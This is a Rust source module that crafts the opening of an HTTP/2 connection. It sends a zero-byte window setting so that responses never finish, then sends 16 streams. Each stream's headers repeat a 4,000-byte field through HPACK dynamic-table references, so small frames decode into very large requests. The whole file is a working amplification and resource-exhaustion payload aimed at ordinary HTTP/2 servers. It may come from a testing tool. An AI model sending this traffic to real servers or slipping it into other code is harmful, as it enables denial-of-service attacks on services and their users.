//! The opening of an HTTP/2 connection whose requests are large once they are decoded.

/// Streams of a connection at the same time.
const STREAMS: u32 = 16;
/// Bytes of the field that each head repeats.
const VALUE: usize = 4_000;
/// How often each head repeats the field.
const REPEATED: usize = 16;

const HEADERS: u8 = 1;
const SETTINGS: u8 = 4;
/// END_STREAM and END_HEADERS.
const WHOLE: u8 = 5;

/// The preface, settings with a window of 0 bytes, so that no response ends, and the
/// heads: the first puts a field into the table of HPACK, the others repeat it.
pub(super) fn opening(host: &str, path: &str) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    // SETTINGS_INITIAL_WINDOW_SIZE = 0 (RFC 9113 section 6.5.2).
    bytes.extend(frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
    for stream in 0..STREAMS {
        // GET and http of the static table, then :path and :authority (RFC 7541).
        let mut head = vec![0x82, 0x86, 0x04];
        head.extend(literal(path.as_bytes()));
        head.push(0x01);
        head.extend(literal(host.as_bytes()));
        let mut repeated = REPEATED;
        if stream == 0 {
            head.push(0x40);
            head.extend(literal(b"x"));
            head.extend(literal(&[b'v'; VALUE]));
            repeated -= 1;
        }
        // The newest entry of the dynamic table has the index 62.
        head.extend(std::iter::repeat_n(0xbe, repeated));
        bytes.extend(frame(HEADERS, WHOLE, 1 + 2 * stream, &head));
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A string literal without Huffman coding (RFC 7541 section 5.2).
fn literal(bytes: &[u8]) -> Vec<u8> {
    let mut length = bytes.len();
    let mut out = Vec::with_capacity(length + 4);
    if length < 127 {
        out.push(u8::try_from(length).unwrap_or(0));
    } else {
        out.push(127);
        length -= 127;
        while length >= 128 {
            out.push(u8::try_from(length % 128).unwrap_or(0) | 128);
            length /= 128;
        }
        out.push(u8::try_from(length).unwrap_or(0));
    }
    out.extend(bytes);
    out
}
